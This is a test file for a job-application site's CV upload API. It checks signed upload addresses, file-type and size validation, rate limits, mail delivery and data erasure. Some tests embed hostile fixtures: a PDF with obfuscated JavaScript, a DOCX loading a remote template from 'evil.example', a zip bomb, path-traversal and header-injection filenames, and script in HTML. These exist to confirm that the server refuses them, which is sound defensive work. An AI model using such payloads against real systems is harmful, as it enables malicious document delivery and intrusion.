import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { postJson, useApiDatabase } from '#tests/api-db';
import { docFile, docxBomb, docxFile, exeFile, htmlFile, pdfFile, pdfOfSize, svgFile, zipFile } from '#tests/cv-files';
import { eventually } from '#tests/eventually';
import { captureLogs } from '#tests/capture-logs';
import { jobInput } from '#tests/job-factory';
import { SmtpSink, freePort } from '#tests/smtp-sink';
import { importJobs } from '@/features/jobs/server/import-jobs';
import { leads } from '@/features/forms/server/leads-table';
import { createTransport } from '@/server/mail/transport';
import { QueueName, registerHandlers, stopQueue } from '@/server/queue';
import { Queue } from '@/server/queue/queue';
import { CV_MAX_BYTES, CV_TYPES } from '../schema';
import { uploads } from './applications-table';
import { eraseLead, readLeadCv, removeExpiredApplications } from './applications-service';
import { closePosition, openPositions, savePosition } from './positions-service';
import { requestUpload } from './uploads-service';

let ctx: Awaited<ReturnType<typeof useApiDatabase>>;
let jobId: string;
beforeAll(async () => {
  ctx = await useApiDatabase();
  await importJobs(ctx.database.db, [jobInput({ external_id: 'apply-1', position: 'Platform Engineer', company: 'Nimbus' })]);
  jobId = (await ctx.database.query(`select id from jobs where external_id = 'apply-1'`)).rows[0]!.id as string;
});
afterAll(() => ctx?.cleanup());

const PDF = CV_TYPES[0];
const DOCX = CV_TYPES[2];
const uploadsDir = () => path.join(process.env.DATA_DIR!, 'uploads');
/** Every file under DATA_DIR/uploads (kept CVs and anything left in tmp). */
function storedFiles(dir = uploadsDir()): string[] {
  try {
    return readdirSync(dir).flatMap((name) => {
      const full = path.join(dir, name);
      return statSync(full).isDirectory() ? storedFiles(full) : [full];
    });
  } catch {
    return [];
  }
}

let ipCounter = 0;
const freshIp = () => `198.18.${Math.floor(++ipCounter / 200)}.${ipCounter % 200}`;
const headers = (ip = freshIp()) => ({ 'content-type': 'application/json', 'x-site-socket-ip': ip });

async function askUpload(file: { filename: string; mimetype: string; size: number }, email = 'ana@example.com', info = '') {
  return ctx.api.request('/rest/file/cv/uploadurl', { ...postJson({ file, email, info, locale: 'es' }), headers: headers() });
}

/** Asks for an address and PUTs `bytes` to it, as the browser does. */
let emails = 0;
async function upload(
  bytes: Buffer,
  { filename = 'cv.pdf', mimetype = PDF as string, email = `candidate${++emails}@example.com`, size = bytes.length } = {},
) {
  const res = await askUpload({ filename, mimetype, size }, email);
  expect(res.status).toBe(200);
  const target = (await res.json()) as { uploadUrl: string; fileId: string; expiresAt: string; headers: Record<string, string> };
  const put = await ctx.api.request(target.uploadUrl, {
    method: 'PUT',
    headers: { 'content-type': mimetype },
    body: new Uint8Array(bytes),
  });
  return { target, put };
}

const context = { locale: 'es' as const, page: '/sp/careers', referrer: '', utm: {} };
const traps = { website: '', elapsedMs: 8000 };
const sendForm = (body: unknown) => ctx.api.request('/rest/form', { ...postJson(body), headers: headers() });
const application = (fileId: string, overrides: Record<string, unknown> = {}) => ({
  type: 'job_application',
  form: {
    target: { kind: 'job', id: jobId },
    name: 'Ana García',
    email: 'ana@example.com',
    position: 'Platform Engineer',
    phone: '+34 600 123 456',
    currentLocation: 'Valencia',
    residence: 'Spain',
    availabilityWeeks: 4,
    noticePeriod: 'One month',
    fileId,
    ...overrides,
  },
  context,
  traps,
});

describe('POST /rest/file/cv/uploadurl', () => {
  it('answers a signed address that expires within 15 minutes', async () => {
    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: 1000 });
    expect(res.status).toBe(200);
    const body = (await res.json()) as { uploadUrl: string; fileId: string; expiresAt: string };
    expect(body.uploadUrl).toMatch(new RegExp(`^/rest/file/cv/upload/${body.fileId}\\?expires=\\d+&sig=[\\w-]{43}$`));
    const ttl = Date.parse(body.expiresAt) - Date.now();
    expect(ttl).toBeGreaterThan(14 * 60_000);
    expect(ttl).toBeLessThanOrEqual(15 * 60_000);
  });

  it.each([
    [{ filename: 'cv.pdf', mimetype: PDF, size: 0 }, 'form', 'fileEmpty'],
    [{ filename: 'cv.pdf', mimetype: PDF, size: CV_MAX_BYTES + 1 }, 'file.size', 'fileTooLarge'],
    [{ filename: 'cv.svg', mimetype: 'image/svg+xml', size: 100 }, 'file.mimetype', 'fileType'],
    [{ filename: 'cv.html', mimetype: 'text/html', size: 100 }, 'file.mimetype', 'fileType'],
  ])('refuses a file the form would refuse (%#)', async (file, pathPart, message) => {
    const res = await askUpload(file);
    expect(res.status).toBe(422);
    const { errors } = (await res.json()) as { errors: { path: string; message: string }[] };
    expect(errors.some((e) => e.message === message && e.path.includes(pathPart === 'form' ? 'size' : pathPart))).toBe(true);
  });

  it('refuses a bad email and a hint over 100 characters', async () => {
    const file = { filename: 'cv.pdf', mimetype: PDF, size: 100 };
    const bad = await askUpload(file, 'ana');
    expect(((await bad.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('emailFormat');
    const long = await askUpload(file, 'ana@example.com', 'x'.repeat(101));
    expect(((await long.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('limitExceeded');
  });
});

describe('PUT to the upload address', () => {
  it('keeps a real PDF, DOC or DOCX under a generated name, with the size of the limit accepted', async () => {
    const before = storedFiles().length;
    for (const [bytes, filename, mimetype] of [
      [pdfFile(), 'cv.pdf', PDF],
      [docFile(), 'cv.doc', CV_TYPES[1]],
      [docxFile(), 'cv.docx', DOCX],
      [pdfOfSize(CV_MAX_BYTES), 'big.pdf', PDF],
    ] as const) {
      const { target, put } = await upload(bytes, { filename, mimetype });
      expect(put.status, filename).toBe(204);
      const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId));
      expect(row).toMatchObject({ status: 'stored', size: bytes.length, contentType: mimetype, filename });
      expect(readFileSync(path.join(uploadsDir(), row!.storageKey)).equals(bytes)).toBe(true);
    }
    expect(storedFiles().length).toBe(before + 4);
    expect(storedFiles().every((f) => path.relative(uploadsDir(), f).startsWith(`cv${path.sep}`))).toBe(true);
  });

  it.each([
    ['an EXE named .pdf', exeFile(), 'cv.pdf', PDF, 'fileType'],
    ['HTML named .pdf', htmlFile(), 'cv.pdf', PDF, 'fileType'],
    ['SVG named .pdf', svgFile(), 'cv.pdf', PDF, 'fileType'],
    ['a plain zip named .docx', zipFile([{ name: 'notes.txt', data: 'hello' }]), 'cv.docx', DOCX, 'fileType'],
    ['a macro-enabled DOCX', docxFile({ macro: true }), 'cv.docx', DOCX, 'fileMacro'],
    ['a DOCX zip bomb', docxBomb(80), 'cv.docx', DOCX, 'fileType'],
    ['an encrypted DOC', docFile({ encrypted: true }), 'cv.doc', CV_TYPES[1], 'fileEncrypted'],
  ])('refuses %s and leaves nothing behind', async (_name, bytes, filename, mimetype, message) => {
    const before = storedFiles();
    const { target, put } = await upload(bytes, { filename, mimetype });
    expect(put.status).toBe(422);
    expect(((await put.json()) as { errors: { path: string; message: string }[] }).errors).toEqual([{ path: 'file', message }]);
    expect(storedFiles()).toEqual(before);
    expect(await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId))).toEqual([]);
  });

  it('stops a body larger than announced and keeps nothing', async () => {
    const before = storedFiles();
    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: 1000 });
    const { uploadUrl } = (await res.json()) as { uploadUrl: string };
    // No Content-Length: the bytes are counted as they stream in.
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(pdfOfSize(900));
        controller.enqueue(Buffer.alloc(900));
        controller.close();
      },
    });
    const put = await ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body, duplex: 'half' } as RequestInit);
    expect(put.status).toBe(413);
    expect(storedFiles()).toEqual(before);
  });

  it('answers a client that stops mid-upload as its fault (400, no error logged, nothing kept), not as an outage', async () => {
    const before = storedFiles();
    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: 1800 });
    const { uploadUrl, fileId } = (await res.json()) as { uploadUrl: string; fileId: string };
    // What the server sees when the browser's connection drops after the first bytes.
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(pdfOfSize(900));
        setTimeout(() => controller.error(Object.assign(new Error('aborted'), { code: 'ECONNRESET' })), 20);
      },
    });
    const logs = captureLogs();
    try {
      const put = await ctx.api.request(uploadUrl, {
        method: 'PUT',
        headers: { 'content-type': PDF },
        body,
        duplex: 'half',
      } as RequestInit);
      expect(put.status).toBe(400);
      expect(logs.find('upload stopped by the client')).toHaveLength(1);
      expect(logs.lines.map((l) => JSON.parse(l) as { level: number }).filter((l) => l.level >= 40)).toEqual([]);
    } finally {
      logs.restore();
    }
    expect(storedFiles()).toEqual(before);
    expect(await ctx.database.db.select().from(uploads).where(eq(uploads.id, fileId))).toEqual([]);
  });

  it('takes three uploads at once from one address, not a fourth', async () => {
    const targets = [];
    for (let i = 0; i < 4; i++)
      targets.push(
        (await askUpload({ filename: `cv${i}.pdf`, mimetype: PDF, size: 1800 }, `parallel${i}@example.com`)).json() as Promise<{
          uploadUrl: string;
        }>,
      );
    const urls = (await Promise.all(targets)).map((t) => t.uploadUrl);
    // Three clients that send half their file and wait.
    const finishers: (() => void)[] = [];
    const slow = urls.slice(0, 3).map((url) => {
      const body = new ReadableStream<Uint8Array>({
        start(controller) {
          const pdf = pdfOfSize(1800);
          controller.enqueue(pdf.subarray(0, 900));
          finishers.push(() => {
            controller.enqueue(pdf.subarray(900));
            controller.close();
          });
        },
      });
      return ctx.api.request(url, {
        method: 'PUT',
        headers: { 'content-type': PDF, 'x-site-socket-ip': '203.0.113.77' },
        body,
        duplex: 'half',
      } as RequestInit);
    });
    await eventually(() => expect(finishers).toHaveLength(3));
    await new Promise((r) => setTimeout(r, 100));
    const fourth = await ctx.api.request(urls[3]!, {
      method: 'PUT',
      headers: { 'content-type': PDF, 'x-site-socket-ip': '203.0.113.77' },
      body: new Uint8Array(pdfOfSize(1800)),
    });
    expect(fourth.status).toBe(429);
    expect(fourth.headers.get('retry-after')).toBe('10');
    const other = await askUpload({ filename: 'other.pdf', mimetype: PDF, size: 1800 }, 'parallel-other@example.com');
    const otherPut = await ctx.api.request(((await other.json()) as { uploadUrl: string }).uploadUrl, {
      method: 'PUT',
      headers: { 'content-type': PDF, 'x-site-socket-ip': '203.0.113.78' },
      body: new Uint8Array(pdfOfSize(1800)),
    });
    expect(otherPut.status).toBe(204);
    finishers.forEach((f) => f());
    expect((await Promise.all(slow)).map((r) => r.status)).toEqual([204, 204, 204]);
  });

  it('stops 5,242,881 bytes sent to an address for 5,242,880, and refuses an empty body', async () => {
    const before = storedFiles();
    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: CV_MAX_BYTES });
    const { uploadUrl } = (await res.json()) as { uploadUrl: string };
    // Sent without a length, so the byte count while streaming is what stops it.
    const over = await ctx.api.request(uploadUrl, {
      method: 'PUT',
      headers: { 'content-type': PDF },
      body: new Uint8Array(pdfOfSize(CV_MAX_BYTES + 1)),
    });
    expect(over.status).toBe(413);
    const empty = await upload(Buffer.alloc(0), { size: 100 });
    expect(empty.put.status).toBe(400);
    expect(storedFiles()).toEqual(before);
  });

  it('takes one of two PUTs sent at once', async () => {
    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length });
    const { uploadUrl } = (await res.json()) as { uploadUrl: string };
    const send = () => ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
    const statuses = (await Promise.all([send(), send()])).map((r) => r.status).sort();
    expect(statuses).toEqual([204, 409]);
  });

  it.each([
    ['RTF saved as .doc', Buffer.from('{\\rtf1\\ansi Curriculum}'), 'cv.doc', CV_TYPES[1], 'fileRtf'],
    [
      'a PDF that runs JavaScript',
      Buffer.from(
        pdfFile().toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>'),
        'latin1',
      ),
      'cv.pdf',
      PDF,
      'fileMacro',
    ],
    [
      'a DOCX that loads a remote template',
      docxFile({
        extra: [
          {
            name: 'word/_rels/settings.xml.rels',
            data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          },
        ],
      }),
      'cv.docx',
      DOCX,
      'fileMacro',
    ],
  ])('refuses %s with its own message', async (_name, bytes, filename, mimetype, message) => {
    const { put } = await upload(bytes, { filename, mimetype });
    expect(put.status).toBe(422);
    expect(((await put.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe(message);
  });

  it('accepts a DOCX with links to web pages', async () => {
    const linked = docxFile({
      extra: [
        {
          name: 'word/_rels/document.xml.rels',
          data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/></Relationships>',
        },
      ],
    });
    expect((await upload(linked, { filename: 'cv.docx', mimetype: DOCX })).put.status).toBe(204);
  });

  it('refuses fewer bytes than announced, another type, and a wrong Content-Length', async () => {
    const short = await upload(pdfFile(), { size: pdfFile().length + 10 });
    expect(short.put.status).toBe(400);
    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length });
    const { uploadUrl } = (await res.json()) as { uploadUrl: string };
    const wrongType = await ctx.api.request(uploadUrl, {
      method: 'PUT',
      headers: { 'content-type': 'text/html' },
      body: new Uint8Array(pdfFile()),
    });
    expect(wrongType.status).toBe(415);
  });

  it('refuses tampered, expired and replayed addresses', async () => {
    const { target, put } = await upload(pdfFile());
    expect(put.status).toBe(204);
    const replay = await ctx.api.request(target.uploadUrl, {
      method: 'PUT',
      headers: { 'content-type': PDF },
      body: new Uint8Array(pdfFile()),
    });
    expect(replay.status).toBe(409);

    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length });
    const { uploadUrl } = (await res.json()) as { uploadUrl: string };
    const url = new URL(uploadUrl, 'http://x');
    const tamperedSig = `${url.pathname}?expires=${url.searchParams.get('expires')}&sig=${'A'.repeat(43)}`;
    const laterExpiry = `${url.pathname}?expires=${Number(url.searchParams.get('expires')) + 3600}&sig=${url.searchParams.get('sig')}`;
    const otherFile = `${url.pathname.replace(/[^/]+$/, 'B'.repeat(22))}${url.search}`;
    for (const address of [tamperedSig, laterExpiry, otherFile]) {
      const tampered = await ctx.api.request(address, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
      expect(tampered.status, address).toBe(403);
    }
    const malformed = await ctx.api.request(
      `${url.pathname}?expires=${url.searchParams.get('expires')}&sig=${encodeURIComponent('é'.repeat(43))}`,
      { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) },
    );
    expect(malformed.status).toBe(422);

    const old = await requestUpload(
      ctx.database.db,
      { file: { filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length }, email: 'ana@example.com', info: '', locale: 'en' },
      { ip: freshIp(), now: new Date(Date.now() - 16 * 60_000) },
    );
    const expired = await ctx.api.request(old.uploadUrl, {
      method: 'PUT',
      headers: { 'content-type': PDF },
      body: new Uint8Array(pdfFile()),
    });
    expect(expired.status).toBe(403);
    expect(((await expired.json()) as { detail: string }).detail).toMatch(/expired/);
  });

  it('makes hostile file names safe', async () => {
    // NUL cannot be stored by PostgreSQL and no real file name has one: refused with the field.
    for (const filename of ['cv\u0000.exe.pdf', 'cv.pdf\u0000']) {
      const res = await askUpload({ filename, mimetype: PDF, size: 100 });
      expect(res.status).toBe(422);
      expect(((await res.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('invalidCharacters');
    }
    const names = [
      '../../etc/passwd.pdf',
      'cv.p\u202Edf',
      'invoice\u202Efdp.exe.pdf',
      'cv\r\nContent-Type: text/html.pdf',
      'cv\u0001\u001b[31m.pdf',
      `${'ñ'.repeat(300)}.pdf`,
    ];
    for (const filename of names) {
      const { target, put } = await upload(pdfFile(), { filename });
      expect(put.status).toBe(204);
      const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId));
      expect(row!.filename).not.toMatch(/[/\\\u0000-\u001f\u202e]/);
      expect(row!.filename).toMatch(/\.pdf$/);
      expect(Array.from(row!.filename).length).toBeLessThanOrEqual(104);
      expect(row!.storageKey).toMatch(/^cv\/[\w-]+$/);
    }
  });
});

describe('sending the form with the file', () => {
  it('stores a job application linked to the job and its CV, and queues both mails', async () => {
    const { target } = await upload(pdfFile(), { email: 'ana@example.com' });
    const res = await sendForm(application(target.fileId));
    expect(res.status).toBe(200);
    const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId));
    expect(row!.status).toBe('attached');
    const [lead] = await ctx.database.db.select().from(leads).where(eq(leads.id, row!.leadId!));
    expect(lead).toMatchObject({ type: 'job_application', email: 'ana@example.com', locale: 'es', consent: { notice: 'Forms.consent' } });
    expect(lead!.form).toMatchObject({
      target: { kind: 'job', id: jobId },
      job: { title: 'Nimbus - Platform Engineer' },
      availabilityWeeks: 4,
      fileId: target.fileId,
    });
    // What `npm run leads -- cv <id>` copies out.
    expect(await readLeadCv(ctx.database.db, lead!.id)).toEqual({ filename: 'cv.pdf', bytes: pdfFile() });
    const { rows } = await ctx.database.query(`select data from pgboss.job where name = 'mail-send' and data->>'key' like $1`, [
      `application-%:${lead!.id}`,
    ]);
    expect(rows.map((r) => (r.data as { to: string }).to).sort()).toEqual(['ana@example.com', 'sales@acme-digital.example']);
    // The recruiters read it as on the applicant's page: in words, in a fixed order, linked in the office.
    const notification = rows.find((r) => (r.data as { key: string }).key === `application-notification:${lead!.id}`)!;
    const { renderMail } = await import('@/server/mail/mail');
    const { text } = await renderMail(notification.data as Parameters<typeof renderMail>[0]);
    expect(text).toMatch(
      new RegExp(
        `\\nName\\n+Ana García\\n+Email\\n+ana@example.com\\n+Phone\\n+\\+34 600 123 456\\n+Job\\n+Nimbus - Platform Engineer \\S*/office/jobs/${jobId}`,
      ),
    );
    expect(text).toMatch(/\nCurrent location\n+Valencia\n+Residence\n+Spain\n+Available\n+In 4 weeks\n+Notice period\n+One month\n/);
    expect(text).toContain(`/office/applicants/${lead!.id}`);
    expect(text).not.toMatch(/fileId|availabilityWeeks|Applied through/);
  });

  it('stores a CV sent on spec with its hint', async () => {
    const res = await askUpload(
      { filename: 'cv.docx', mimetype: DOCX, size: docxFile().length },
      'luis@example.com',
      'Data engineer, remote',
    );
    const { uploadUrl, fileId } = (await res.json()) as { uploadUrl: string; fileId: string };
    expect(
      (await ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': DOCX }, body: new Uint8Array(docxFile()) })).status,
    ).toBe(204);
    expect((await sendForm({ type: 'cv', form: { fileId }, context, traps })).status).toBe(200);
    const [lead] = await ctx.database.db.select().from(leads).where(eq(leads.email, 'luis@example.com'));
    expect(lead).toMatchObject({ type: 'cv', form: { email: 'luis@example.com', info: 'Data engineer, remote', fileId } });
  });

  it('refuses a file that is missing, not yet uploaded, already used or of another address', async () => {
    const { target } = await upload(pdfFile(), { email: 'eva@example.com' });
    const pending = (await (await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: 500 }, 'eva@example.com')).json()) as {
      fileId: string;
    };
    const before = (await ctx.database.db.select().from(leads)).length;
    for (const fileId of ['C'.repeat(22), pending.fileId]) {
      const res = await sendForm(application(fileId, { email: 'eva@example.com' }));
      expect(res.status).toBe(422);
      expect(((await res.json()) as { errors: { path: string }[] }).errors[0]!.path).toBe('fileId');
    }
    expect((await sendForm(application(target.fileId, { email: 'someone-else@example.com' }))).status).toBe(422);
    expect((await sendForm(application(target.fileId, { email: 'eva@example.com' }))).status).toBe(200);
    expect((await sendForm(application(target.fileId, { email: 'eva@example.com' }))).status).toBe(422);
    expect((await ctx.database.db.select().from(leads)).length).toBe(before + 1);
  });

  it('refuses an application for a job that is gone, and bad fields', async () => {
    const { target } = await upload(pdfFile(), { email: 'ana@example.com' });
    const gone = await sendForm(application(target.fileId, { target: { kind: 'job', id: 'no-such-job' } }));
    expect(gone.status).toBe(422);
    expect(((await gone.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('jobClosed');
    for (const [field, value, message] of [
      ['availabilityWeeks', -1, 'wholeWeeks'],
      ['availabilityWeeks', 1.5, 'wholeWeeks'],
      ['phone', '12ab', 'phoneFormat'],
      ['name', 'Al', 'nameMin'],
      ['currentLocation', '', 'required'],
      ['availabilityWeeks', '', 'required'],
    ] as const) {
      const res = await sendForm(application(target.fileId, { [field]: value }));
      expect(res.status).toBe(422);
      const { errors } = (await res.json()) as { errors: { path: string; message: string }[] };
      expect(errors).toContainEqual({ path: `form.${field}`, message });
    }
  });
});

it('takes an application without the optional residence and notice period (the location and the weeks say it)', async () => {
  const { target } = await upload(pdfFile(), { email: 'olga@example.com' });
  const res = await sendForm(application(target.fileId, { email: 'olga@example.com', residence: '', noticePeriod: '' }));
  expect(res.status).toBe(200);
});

describe('after a submission', () => {
  it('mails the recruiters the CV intact, and the candidate in their language', async () => {
    await stopQueue();
    const sink = new SmtpSink();
    const port = await sink.start(await freePort());
    const queue = new Queue(ctx.database, { work: true, retryDelaySeconds: 1, pollingIntervalSeconds: 0.5 });
    await queue.start();
    await registerHandlers(queue, ctx.database, createTransport(`smtp://127.0.0.1:${port}?ignoreTLS=true`));
    const cv = pdfFile('Jürgen Weiß');
    const { target } = await upload(cv, { filename: 'Lebenslauf Jürgen\u202E.pdf', email: 'juergen@example.com' });
    const { submitApplication } = await import('./applications-service');
    await submitApplication(
      ctx.database.db,
      queue,
      {
        ...application(target.fileId, { name: 'Jürgen Weiß', email: 'juergen@example.com' }),
        context: { ...context, locale: 'de' },
      } as never,
      { ip: freshIp() },
    );
    const mails = await eventually(() => {
      const found = sink.messages.filter((m) => JSON.stringify([m.to, m.replyTo]).includes('juergen@example.com'));
      if (found.length < 2) throw new Error(`${found.length} mails`);
      return found;
    }, 20_000);
    const recruiter = mails.find((m) => (m.to as { text: string }).text === 'sales@acme-digital.example')!;
    const candidate = mails.find((m) => (m.to as { text: string }).text === 'juergen@example.com')!;
    expect(recruiter.subject).toBe('Application from Jürgen Weiß: Nimbus - Platform Engineer');
    expect(recruiter.attachments).toHaveLength(1);
    expect(recruiter.attachments[0]!.filename).toBe('Lebenslauf Jürgen.pdf');
    expect(recruiter.attachments[0]!.contentType).toBe('application/pdf');
    expect(Buffer.compare(recruiter.attachments[0]!.content, cv)).toBe(0);
    expect(candidate.subject).toBe('Wir haben Ihre Bewerbung für Nimbus - Platform Engineer erhalten');
    expect(candidate.text).toContain('365 Tage');
    expect(candidate.attachments).toHaveLength(0);
    await queue.stop(2000);
    await sink.stop();
  });

  it('deletes applications past their retention, and uploads never sent, with their files', async () => {
    const { target: kept } = await upload(pdfFile(), { email: 'kept@example.com' });
    expect((await sendForm(application(kept.fileId, { email: 'kept@example.com' }))).status).toBe(200);
    const { target: old } = await upload(pdfFile(), { email: 'old@example.com' });
    expect((await sendForm(application(old.fileId, { email: 'old@example.com' }))).status).toBe(200);
    const { target: abandoned } = await upload(pdfFile(), { email: 'left@example.com' });
    const [oldRow] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, old.fileId));
    const [abandonedRow] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, abandoned.fileId));
    await ctx.database.db
      .update(leads)
      .set({ createdAt: new Date(Date.now() - 366 * 24 * 3600 * 1000) })
      .where(eq(leads.id, oldRow!.leadId!));
    await ctx.database.db
      .update(uploads)
      .set({ createdAt: new Date(Date.now() - 25 * 3600 * 1000) })
      .where(eq(uploads.id, abandoned.fileId));

    const removed = await removeExpiredApplications(ctx.database.db);
    expect(removed).toEqual({ applications: 1, abandoned: 1 });
    expect(await ctx.database.db.select().from(leads).where(eq(leads.email, 'old@example.com'))).toEqual([]);
    expect(await ctx.database.db.select().from(uploads).where(eq(uploads.id, old.fileId))).toEqual([]);
    expect(storedFiles()).not.toContain(path.join(uploadsDir(), oldRow!.storageKey));
    expect(storedFiles()).not.toContain(path.join(uploadsDir(), abandonedRow!.storageKey));
    expect(await ctx.database.db.select().from(leads).where(eq(leads.email, 'kept@example.com'))).toHaveLength(1);
  });

  it('erases an application and its CV on request', async () => {
    const { target } = await upload(pdfFile(), { email: 'erase@example.com' });
    expect((await sendForm(application(target.fileId, { email: 'erase@example.com' }))).status).toBe(200);
    const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId));
    const mailsOf = async () =>
      (
        await ctx.database.query(`select id from pgboss.job where name = 'mail-send' and singleton_key like $1`, [
          `application-%:${row!.leadId}`,
        ])
      ).rows;
    expect(await mailsOf()).toHaveLength(2);
    const allMails = async () =>
      (await ctx.database.query(`select count(*)::int as n from pgboss.job where name = 'mail-send'`)).rows[0]!.n as number;
    const queue = new Queue(ctx.database, { work: false });
    // Another lead's mail whose key starts like this one's (its id would start with this id).
    const [own] = (
      await ctx.database.query(`select data, singleton_key from pgboss.job where name = 'mail-send' and singleton_key like $1 limit 1`, [
        `application-%:${row!.leadId}`,
      ])
    ).rows as { data: object; singleton_key: string }[];
    const neighbour = `${own!.singleton_key}x`;
    await queue.send(QueueName.mail, own!.data, { singletonKey: neighbour });
    const before = await allMails();
    // An id that is only the start of this one erases nothing: ids are matched exactly.
    expect(await eraseLead(ctx.database.db, queue, row!.leadId!.slice(0, 3))).toBe(false);
    expect(await allMails()).toBe(before);
    expect(await eraseLead(ctx.database.db, queue, row!.leadId!)).toBe(true);
    expect(await mailsOf()).toEqual([]);
    // Only its own two mails went.
    expect(await allMails()).toBe(before - 2);
    expect((await ctx.database.query(`select 1 from pgboss.job where singleton_key = $1`, [neighbour])).rows).toHaveLength(1);
    expect(await ctx.database.db.select().from(leads).where(eq(leads.email, 'erase@example.com'))).toEqual([]);
    expect(await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId))).toEqual([]);
    expect(storedFiles()).not.toContain(path.join(uploadsDir(), row!.storageKey));
    expect(await readLeadCv(ctx.database.db, row!.leadId!)).toBeNull();
  });
});

describe('open positions', () => {
  it('are opened from a checked file with sanitized text, updated, and closed (then applications are refused)', async () => {
    await savePosition(ctx.database.db, {
      id: 'senior-data-engineer',
      role: 'Senior Data Engineer',
      locale: 'en',
      location: 'Remote (EU)',
      description: '<p>Build pipelines.</p><script>alert(1)</script>',
    });
    let open = await openPositions(ctx.database.db);
    expect(open.find((p) => p.id === 'senior-data-engineer')).toMatchObject({
      role: 'Senior Data Engineer',
      description: '<p>Build pipelines.</p>',
    });
    await savePosition(ctx.database.db, {
      id: 'senior-data-engineer',
      role: 'Lead Data Engineer',
      locale: 'en',
      description: '<p>Lead.</p>',
    });
    open = await openPositions(ctx.database.db);
    expect(open.filter((p) => p.id === 'senior-data-engineer').map((p) => p.role)).toEqual(['Lead Data Engineer']);
    // Everything valid but the id: refused for the id.
    await expect(
      savePosition(ctx.database.db, { id: 'Bad Id', role: 'Data Engineer', locale: 'en', description: '<p>x</p>' }),
    ).rejects.toMatchObject({ issues: [expect.objectContaining({ path: ['id'] })] });

    const { target } = await upload(pdfFile(), { email: 'lead-data@example.com' });
    expect(await closePosition(ctx.database.db, 'senior-data-engineer')).toBe(true);
    expect((await openPositions(ctx.database.db)).some((p) => p.id === 'senior-data-engineer')).toBe(false);
    const res = await sendForm(
      application(target.fileId, { email: 'lead-data@example.com', target: { kind: 'position', id: 'senior-data-engineer' } }),
    );
    expect(res.status).toBe(422);
    expect(((await res.json()) as { errors: { path: string; message: string }[] }).errors).toContainEqual(
      expect.objectContaining({ message: 'jobClosed' }),
    );
  });
});
